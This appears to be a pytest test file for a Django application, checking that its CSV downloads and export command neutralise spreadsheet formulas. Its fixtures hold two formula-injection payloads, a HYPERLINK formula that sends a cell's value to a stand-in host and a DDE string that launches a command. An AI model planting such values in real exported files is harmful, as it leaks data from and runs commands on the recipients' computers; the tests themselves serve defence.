"""Every CSV download neutralises texts a spreadsheet would run (issue 11, item 4)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import Client
from tests.identification.helpers import MING
from tests.identification.world import World, make_world

from jingzhun.identification.exports import export_identification
from jingzhun.registry.models import Person
from jingzhun.schools.models import School

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://x.example/?"&A1,"点击")'
SCHOOL = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def w(tmp_path: Path) -> World:
    world = make_world(tmp_path, ming_without_id=False)
    Person.objects.filter(name=MING[0]).update(name=NAME)
    School.objects.filter(code="2142010001").update(name=SCHOOL)
    return world


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _check(rows: list[list[str]]) -> None:
    cells = [value for row in rows for value in row]
    assert "'" + NAME in cells and "'" + SCHOOL in cells  # the text kept after an apostrophe
    assert not [v for v in cells if v.startswith(("=", "+", "@", "\t", "\r"))]


def test_run_csv_download_neutralises_formulas(w: World) -> None:
    client = Client()
    client.force_login(w.county_officer)
    response = client.get(f"/identification/runs/{w.run.pk}/export.csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    _check(_rows(body))


def test_csv_export_function_and_command_neutralise_formulas(w: World, tmp_path: Path) -> None:
    export_identification(user=w.county_officer, run=w.run, path=tmp_path / "f.csv")
    _check(_rows((tmp_path / "f.csv").read_text(encoding="utf-8-sig")))
    call_command("export", "identification", str(tmp_path / "c.csv"), "--user", "county")
    _check(_rows((tmp_path / "c.csv").read_text(encoding="utf-8-sig")))
